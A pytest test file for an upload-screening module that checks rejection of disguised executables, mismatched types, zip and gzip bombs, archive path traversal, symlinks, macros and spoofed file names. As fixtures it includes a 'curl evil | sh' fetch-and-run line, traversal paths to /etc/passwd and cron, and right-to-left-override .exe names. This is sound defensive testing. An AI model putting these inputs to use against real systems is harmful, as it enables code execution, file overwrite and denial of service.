"""Upload screening: disguised executables, type mismatches, archive bombs, traversal, macros."""

from __future__ import annotations

import gzip
import io
import tarfile
import zipfile

import pytest

from kakehashi.exchange.errors import UnsafeFileName, UploadRejected
from kakehashi.exchange.filenames import safe_file_name
from kakehashi.exchange.screening import ScreeningLimits, screen_upload

PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(48) + b"PE\x00\x00"
PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(32)


def screen(name, data, claimed="", **limits):
    return screen_upload(name, claimed, io.BytesIO(data), limits=ScreeningLimits(**limits))


def rejected(name, data, claimed="", **limits):
    with pytest.raises(UploadRejected) as caught:
        screen(name, data, claimed, **limits)
    return caught.value.code


def zipped(entries, *, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def tarred(members, *, gz=False):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz" if gz else "w") as archive:
        for info, data in members:
            archive.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def member(name, data=b"", kind=tarfile.REGTYPE, target=""):
    info = tarfile.TarInfo(name)
    info.type, info.size, info.linkname = kind, len(data), target
    return info, data


DOCX = [("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>")]


def test_it_accepts_ordinary_files_and_names_their_media_type():
    assert screen("報告書.pdf", PDF, "application/pdf").file_type.media_type == "application/pdf"
    assert screen("chart.png", PNG).file_type.media_type == "image/png"
    assert screen("data.csv", "名前,値\n東京,1\n".encode("cp932"), "text/csv").file_type.extension == "csv"
    assert screen("plan.docx", zipped(DOCX)).size > 0
    assert screen("bundle.tgz", tarred([member("a/b.csv", b"x,y\n")], gz=True)).file_type.media_type == \
        "application/gzip"


@pytest.mark.parametrize(("name", "data"), [
    ("report.pdf", PE),
    ("data.csv", b"\x7fELF\x02\x01\x01" + bytes(9)),
    ("photo.png", b"\xcf\xfa\xed\xfe" + bytes(28)),
    ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n"),
])
def test_it_refuses_an_executable_disguised_as_a_document(name, data):
    assert rejected(name, data) == "disguised-executable"


def test_text_that_merely_begins_with_mz_is_not_an_executable():
    assert screen("regions.csv", b"MZ region,count\nnorth,1\n").file_name == "regions.csv"


@pytest.mark.parametrize("name", ["setup.exe", "report.pdf.exe", "page.html", "image.svg", "run.bat", "noext"])
def test_it_refuses_types_it_does_not_accept(name):
    assert rejected(name, PDF) == "file-type-not-accepted"


def test_it_refuses_content_that_does_not_match_the_extension():
    assert rejected("report.pdf", zipped(DOCX)) == "content-mismatch"
    assert rejected("photo.jpg", PNG) == "content-mismatch"


def test_it_refuses_a_claimed_type_that_contradicts_the_name():
    assert rejected("report.pdf", PDF, "application/x-msdownload") == "claimed-type-mismatch"
    assert screen("report.pdf", PDF, "application/octet-stream").file_name == "report.pdf"


def test_it_refuses_files_over_the_configured_size():
    assert rejected("report.pdf", PDF, max_upload_bytes=10) == "file-too-large"


def test_it_refuses_a_zip_bomb_by_ratio():
    assert rejected("bomb.zip", zipped([("zeros.bin", bytes(5 << 20))])) == "archive-bomb"


def test_it_refuses_an_archive_that_expands_beyond_the_total():
    data = zipped([(f"part{i}.csv", b"a,b\n" * 1000) for i in range(5)])
    assert rejected("parts.zip", data, max_expanded_bytes=10_000, max_ratio=10_000) == "archive-bomb"


def test_it_refuses_an_archive_with_too_many_entries():
    assert rejected("many.zip", zipped([(f"{i}.txt", b"x") for i in range(20)]), max_entries=10) == "archive-bomb"


def test_it_refuses_archives_nested_too_deep():
    inner = zipped([("a.txt", b"hello")])
    for level in range(3):
        inner = zipped([(f"level{level}.zip", inner)])
    assert rejected("nested.zip", inner, max_depth=3) == "archive-bomb"
    assert screen("nested.zip", inner, max_depth=5).file_name == "nested.zip"


def test_it_refuses_a_gzip_bomb():
    assert rejected("zeros.gz", gzip.compress(bytes(8 << 20))) == "archive-bomb"


def test_it_refuses_an_executable_inside_an_archive():
    assert rejected("tools.zip", zipped([("readme.txt", b"hi"), ("docs/setup.pdf", PE)])) == "disguised-executable"
    assert rejected("tools.tar", tarred([member("bin/run", b"#!/bin/sh\n")])) == "disguised-executable"


@pytest.mark.parametrize("entry", ["../../etc/passwd", "/etc/cron.d/x", "a/../../x", "..\\windows\\x.dll",
                                   "docs/CON.txt", "docs/\u202etxt.exe"])
def test_it_refuses_archive_entries_that_escape_their_folder(entry):
    with pytest.raises(UnsafeFileName):
        screen("slip.zip", zipped([(entry, b"x")]))


def test_it_refuses_links_and_devices_in_tar_archives():
    assert rejected("links.tar", tarred([member("a", kind=tarfile.SYMTYPE, target="/etc/passwd")])) == "archive-link"
    assert rejected("dev.tar", tarred([member("null", kind=tarfile.CHRTYPE)])) == "archive-link"


def test_it_refuses_a_symlink_in_a_zip():
    info = zipfile.ZipInfo("link")
    info.external_attr = (0o120777 << 16)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    assert rejected("link.zip", buffer.getvalue()) == "archive-link"


def test_it_refuses_macro_enabled_office_documents():
    assert rejected("plan.docx", zipped([*DOCX, ("word/vbaProject.bin", b"\xd0\xcf")])) == "macros"
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "_VBA_PROJECT".encode("utf-16-le") + bytes(100)
    assert rejected("budget.xls", ole) == "macros"
    assert screen("budget.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)).file_name == "budget.xls"


def test_it_refuses_an_office_document_without_its_manifest():
    assert rejected("plan.docx", zipped([("word/document.xml", b"<w/>")])) == "content-mismatch"


def test_it_refuses_archives_it_cannot_inspect():
    assert rejected("inner.zip", zipped([("x.7z", b"7z\xbc\xaf\x27\x1c" + bytes(20))])) == "archive-unsupported"
    assert rejected("broken.zip", b"PK\x03\x04" + bytes(40)) == "archive-damaged"


@pytest.mark.parametrize("name", ["../report.pdf", "a/b.pdf", "a\\b.pdf", "C:report.pdf", "re\x00port.pdf",
                                  "invoice\u202efdp.exe", "CON", "nul.txt", "com1.pdf", "report.pdf.",
                                  " report.pdf", "", ".", "..", "x" * 252 + ".pdf", "a\u200bb.pdf"])
def test_it_refuses_unsafe_file_names(name):
    with pytest.raises(UnsafeFileName):
        safe_file_name(name)


@pytest.mark.parametrize("name", ["報告書.pdf", "report v2 (final).pdf", "रिपोर्ट.csv", "console.txt", "a.b.c.txt"])
def test_it_keeps_safe_file_names(name):
    assert safe_file_name(name) == name
